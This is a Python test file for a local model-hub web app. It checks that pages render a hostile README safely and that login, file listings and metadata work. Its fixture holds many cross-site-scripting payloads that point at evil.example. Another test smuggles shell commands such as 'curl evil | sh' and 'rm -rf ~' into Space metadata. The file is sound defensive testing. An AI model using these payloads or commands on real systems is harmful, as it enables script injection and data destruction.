"""The web pages: what they show, and what a hostile README cannot do."""

from __future__ import annotations

import http.client
import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from huggingface_hub import HfApi
from localhub_helpers import ask

from hubprune.localhub import EmbeddedHub
from hubprune.localhub.markdown import render
from hubprune.localhub.snippets import metadata_rows

Api = Callable[[str | None], HfApi]

HOSTILE = """---
title: "<script>alert(0)</script>"
tags: ["<img src=x onerror=alert(1)>"]
---
# Title <script>alert(2)</script>

![up](../../../../api/whoami-v2) <img src="/login"> <img src="\\\\evil.example\\x">

<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/pixel.png" onerror="alert(3)" onload=alert(4)>
<img src=x onerror=alert(5)//
<svg onload=alert(6)><animate onbegin=alert(7)></svg>
<iframe srcdoc="<script>alert(8)</script>"></iframe>
<object data="javascript:alert(9)"></object><embed src="javascript:alert(10)">
<form action="https://evil.example"><input name=token><button formaction="javascript:alert(11)">go</button></form>
<style>body{background:url(https://evil.example/y)}</style><link rel=stylesheet href=https://evil.example/z>
<a href="javascript:alert(12)">a</a> <a href=" java\tscript:alert(13)">b</a> [c](javascript:alert(14))
<a href="data:text/html,<script>alert(15)</script>">d</a> <a href="vbscript:x">e</a>
![pixel](https://evil.example/p.png) ![pixel2](//evil.example/p.png) ![d](data:image/svg+xml;base64,AAAA)
<p style="background:url(//evil.example)" class="panel" id="clobber">x</p>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(16)&gt;">
<details open ontoggle=alert(17)><summary>s</summary></details>
"""


class Watcher(HTMLParser):
    """Collects what a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for key, value in attrs:
            if key.startswith("on") or key in ("style", "srcdoc", "formaction"):
                self.handlers.append(f"{tag} {key}={value}")
            if key in ("src", "href", "action", "data"):
                self.addresses.append(value or "")


def assert_harmless(html: str) -> None:
    watcher = Watcher()
    watcher.feed(html)
    assert not watcher.tags & {"script", "iframe", "object", "embed", "base", "math", "animate"}
    assert watcher.handlers == []
    for address in watcher.addresses:
        assert not re.match(r"\s*(java|vb)\s*script:", address, re.I)
        assert not address.startswith("data:text")
        assert "evil.example" not in address


@pytest.mark.parametrize("line", HOSTILE.splitlines()[5:])
def test_hostile_line_is_harmless(line: str) -> None:
    for text in (line, f"text {line} text", f"- {line}", f"<div>\n\n{line}\n\n</div>"):
        html = render(text, files_url="/f", pages_url="/p")
        assert_harmless(html)
        assert "clobber" not in html


def test_hostile_readme_is_harmless(hub: EmbeddedHub, hub_api: Api) -> None:
    api = hub_api("me")
    api.create_repo("me/hostile")
    api.upload_file(path_or_fileobj=HOSTILE.encode(), path_in_repo="README.md", repo_id="me/hostile")
    api.create_discussion("me/hostile", "<b>hi</b><script>alert(1)</script>", description=HOSTILE)
    for path in ("/me/hostile", "/me/hostile/blob/main/README.md", "/me/hostile/discussions/1", "/"):
        answer = ask(hub, path)
        assert answer.status == 200
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
        assert_harmless(answer.text)
    text = ask(hub, "/me/hostile").text
    assert "&lt;script&gt;alert(0)" in text
    assert 'class="panel" id="clobber"' not in text
    assert "/me/hostile/resolve/main/api/whoami-v2" in text
    assert "/me/hostile/resolve/main/login" in text


def test_page_asks_no_other_host_for_anything(hub: EmbeddedHub, hub_api: Api) -> None:
    hub_api("me").create_repo("me/plain", exist_ok=True)
    for path in ("/", "/models", "/me", "/me/plain", "/me/plain/tree/main", "/login"):
        text = ask(hub, path).text
        outside = re.findall(r"""(?:src|href|action)=["']?(?:https?:)?//[^"'\s>]+""", text)
        assert outside == [], path


def test_repo_page_shows_readme_metadata_files_and_commands(hub: EmbeddedHub, hub_api: Api) -> None:
    api = hub_api("me")
    api.create_repo("me/shown")
    readme = b"---\nlicense: mit\ntags: [pruned, sparse]\n---\n# The card\n\n"
    readme += b"![plot](img/plot.png) [doc](docs/a.md)\n\n|a|b|\n|:-|-:|\n|1|2|\n"
    for path, content in (
        ("README.md", readme),
        ("img/plot.png", b"\x89PNG"),
        ("config.json", b'{"architectures":["LlamaForCausalLM"]}'),
    ):
        api.upload_file(path_or_fileobj=content, path_in_repo=path, repo_id="me/shown", commit_message=f"add {path}")
    page = ask(hub, "/me/shown").text
    assert '<h1 id="the-card">The card</h1>' in page
    assert '<img src="/me/shown/resolve/main/img/plot.png" alt="plot">' in page
    assert 'href="/me/shown/blob/main/docs/a.md"' in page
    assert '<td style="text-align:right">2</td>' in page
    assert re.search(r"<th>license</th>\s*<td>mit</td>", page)
    assert "license: mit" not in page
    assert "AutoModelForCausalLM" in page
    assert f"HF_ENDPOINT={hub.url}" in page
    listing = ask(hub, "/me/shown/tree/main").text
    assert "add config.json" in listing
    assert "38 B" in listing
    assert "/me/shown/resolve/main/config.json" in listing
    assert "LlamaForCausalLM" in ask(hub, "/me/shown/blob/main/config.json").text
    assert "This file is not text" not in ask(hub, "/me/shown/blob/main/README.md").text
    sha = api.model_info("me/shown").sha
    assert "config.json" in ask(hub, f"/me/shown/commit/{sha}").text
    assert "initial commit" in ask(hub, "/me/shown/commits/main").text
    assert ask(hub, "/me/shown/tree/nowhere").status == 404
    assert ask(hub, "/nobody").status == 404
    assert "me/</span>shown" in ask(hub, "/models?search=shown").text
    assert "Nothing is called" in ask(hub, "/datasets?search=%3Cscript%3E").text


@pytest.mark.parametrize(
    ("sdk", "files", "expected"),
    [
        ("gradio", {"requirements.txt": b"torch"}, ["pip install gradio -r requirements.txt", "python app.py"]),
        ("docker", {}, ["docker build", "docker run"]),
        ("static", {}, ["python -m http.server"]),
    ],
)
def test_space_page_has_the_command_that_runs_it(
    hub: EmbeddedHub, hub_api: Api, sdk: str, files: dict[str, bytes], expected: list[str]
) -> None:
    api = hub_api("me")
    api.create_repo(f"me/run-{sdk}", repo_type="space", space_sdk=sdk)
    for path, content in files.items():
        api.upload_file(path_or_fileobj=content, path_in_repo=path, repo_id=f"me/run-{sdk}", repo_type="space")
    page = ask(hub, f"/spaces/me/run-{sdk}").text
    for part in [f"hf download me/run-{sdk}", "--repo-type space", *expected]:
        assert part in page


def test_command_of_a_hostile_space_is_quoted(hub: EmbeddedHub, hub_api: Api) -> None:
    api = hub_api("me")
    api.create_repo("me/trick", repo_type="space", space_sdk="gradio")
    head = b"---\nsdk: gradio\nsdk_version: '6; rm -rf ~'\napp_file: 'a.py; curl evil | sh'\n---\n"
    api.upload_file(path_or_fileobj=head, path_in_repo="README.md", repo_id="me/trick", repo_type="space")
    page = ask(hub, "/spaces/me/trick").text
    assert "python &#39;a.py; curl evil | sh&#39;" in page
    assert "pip install &#39;gradio==6; rm -rf ~&#39;" in page


def test_signing_in_shows_private_repositories_but_cannot_write(hub: EmbeddedHub, hub_api: Api) -> None:
    hub_api("me").create_repo("me/mine", private=True)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    wrong = ask(hub, "/login", method="POST", data=b"token=nope", headers=form)
    assert wrong.status == 403
    cookie = {"Cookie": f"localhub_token={hub.token('me')}"}
    assert ask(hub, "/me/mine").status == 404
    assert ask(hub, "/me/mine", headers=cookie).status == 200
    refused = ask(hub, "/api/repos/create", method="POST", data={"name": "forged"}, headers=cookie)
    assert refused.status == 401
    connection = http.client.HTTPConnection("127.0.0.1", hub.port, timeout=30)
    connection.request("POST", "/login", f"token={hub.token('me')}", form)
    answer = connection.getresponse()
    cookie_set = str(answer.headers["Set-Cookie"])
    connection.close()
    assert answer.status == 303
    assert f"localhub_token={hub.token('me')}" in cookie_set
    assert {"httponly", "samesite=lax"} <= {part.strip().lower() for part in cookie_set.split(";")}


def test_relative_addresses_start_at_the_folder_of_the_text() -> None:
    html = render(
        "[a](x.md#y) ![b](../i.png) [c](#d) [e](https://e.org)", files_url="/f", pages_url="/p", folder="docs/sub"
    )
    assert 'href="/p/docs/sub/x.md#y"' in html
    assert 'src="/f/docs/i.png"' in html
    assert 'href="#d"' in html
    assert 'href="https://e.org" rel="noopener noreferrer nofollow"' in html


def test_metadata_table_flattens_results() -> None:
    card = {
        "license": "mit",
        "empty": None,
        "tags": ["a", "b"],
        "extra": {"k": 1},
        "model-index": [
            {"name": "m", "results": [{"dataset": {"name": "D"}, "metrics": [{"type": "perplexity", "value": 3.5}]}]}
        ],
    }
    rows = dict(metadata_rows(card))
    assert rows == {
        "license": ["mit"],
        "tags": ["a", "b"],
        "extra": ['{"k": 1}'],
        "model-index": ["D: perplexity = 3.5"],
    }
